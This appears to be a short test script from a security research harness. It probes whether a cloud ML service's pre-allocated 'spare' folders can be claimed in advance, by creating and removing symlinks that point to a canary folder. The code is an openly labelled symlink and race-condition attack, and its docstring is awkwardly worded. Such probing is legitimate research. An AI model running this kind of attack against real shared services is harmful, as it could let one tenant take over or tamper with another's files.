"""Makes the folders of the next spares before the warm process does, so that they cannot be made or are its own."""

import os

from attack import BAIT, attack, every


def take(number):
    place = os.path.join(BAIT["warm_folder"], f"spare{number}")
    os.symlink(BAIT["canary_folder"], place)
    os.unlink(place)
    return f"could make {place}"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(take, range(100000, 100003))
